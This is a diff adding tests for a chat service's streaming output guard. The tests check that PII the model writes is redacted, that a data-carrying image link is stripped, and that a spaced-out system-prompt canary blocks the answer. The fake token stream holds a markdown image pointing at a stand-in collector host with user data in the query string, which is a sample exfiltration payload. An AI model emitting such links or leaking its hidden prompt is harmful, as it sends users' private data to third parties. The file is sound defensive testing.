@@ -224,3 +224,87 @@ async def test_a_stop_keeps_the_partial_answer_settles_usage_and_closes_the_engi
     assert (answer.status, answer.text) == ("stopped", "Partial answer with a ")
     assert (usage.outcome, usage.tokens_out) == ("stopped", 3) and usage.tokens_in > 0
     assert conversation.generating_since is None  # the one-generation lease was given back
+
+
+LEAKY = [
+    "Sure",
+    "!",
+    " Mail",
+    " kari",
+    ".nordmann",
+    "@example",
+    ".org",
+    " or",
+    " call",
+    " +46",
+    " 70",
+    " 123",
+    " 45",
+    " 67",
+    ".",
+    " ![",
+    "status](",
+    "https://collector.example/",
+    "p.png?d=",
+    "<PERSON_1>",
+    ")",
+    " Thanks",
+    ",",
+    " <PERSON_1>",
+    ".",
+]
+
+
+async def test_the_answer_streams_through_the_output_guard_and_is_stored_as_sent(world):
+    """Issue 17/22: PII the model writes and data-carrying links are removed before a token leaves, and the
+    streamed, the stored and the final text are the same string."""
+    conv = await database_sync_to_async(_conversation)(world)
+    run = ChatRun(
+        ChatInput(
+            tenant=world.tenant, role="member", user=world.member, conversation=conv, text="I am Ingrid Solvang."
+        ),
+        pool=FakePool(LEAKY),
+    )
+    events = await _events(run)
+    tokens = [e.text for e in events if isinstance(e, Token)]
+    done = events[-1]
+    assert isinstance(done, Done)
+    streamed = "".join(tokens)
+    for i in range(1, len(tokens) + 1):
+        prefix = "".join(tokens[:i])
+        for secret in ("kari", "nordmann", "+46", "70 123", "collector"):
+            assert secret not in prefix, (secret, prefix)
+    assert streamed == done.text == run.text
+    assert "[REDACTED:EMAIL_ADDRESS]" in streamed and "[REDACTED:PHONE_NUMBER]" in streamed
+    assert "[image: status]" in streamed
+    assert streamed.endswith("Thanks, Ingrid Solvang.")  # the user's own name (a placeholder) is shown to them
+    answer = await database_sync_to_async(lambda: Message.objects.for_tenant(world.tenant).get(pk=done.message_id))()
+    assert answer.text == streamed
+    assert answer.masked_text == streamed.replace("Ingrid Solvang", "<PERSON_1>")  # what the model sees next turn
+    output = answer.guardrails["output"]
+    assert output["decision"] == "warn" and output["redacted"] == {"EMAIL_ADDRESS": 1, "PHONE_NUMBER": 1}
+    assert sum(output["stream"]["lag_tokens"]) == len(LEAKY)  # every token was sent once
+    assert output["stream"]["analyses"] >= 2
+
+
+async def test_the_conversationless_door_streams_through_the_output_guard_too(world):
+    pool = FakePool(["Write", " to", " kari.nordmann", "@example.org", " now", "."])
+    run = ChatRun(ChatInput(tenant=world.tenant, role="member", text="Who?", source="api"), pool=pool)
+    events = await _events(run)
+    tokens = [e.text for e in events if isinstance(e, Token)]
+    assert not any("kari" in t for t in tokens)
+    assert "".join(tokens) == events[-1].text == "Write to [REDACTED:EMAIL_ADDRESS] now."
+
+
+async def test_a_spaced_out_canary_cuts_the_answer_inline(world):
+    inp = ChatInput(tenant=world.tenant, role="member", text="What is our reference number?")
+    run = ChatRun(inp, pool=FakePool([]))
+    canary = run.state.canary
+    run.pool = FakePool(["It ", "is ", *[f"{ch} " for ch in canary], "and ", "the ", "rest"])
+    events = await _events(run)
+    done = events[-1]
+    assert isinstance(done, Done) and done.finish_reason == "content_filter"
+    assert done.guardrails["output"]["decision"] == "block" and done.guardrails["output"]["canary_leaked"] is True
+    sent = "".join(e.text for e in events if isinstance(e, Token))
+    assert sent == done.text and "rest" not in sent
+    assert canary not in sent.replace(" ", "")  # its last character never left
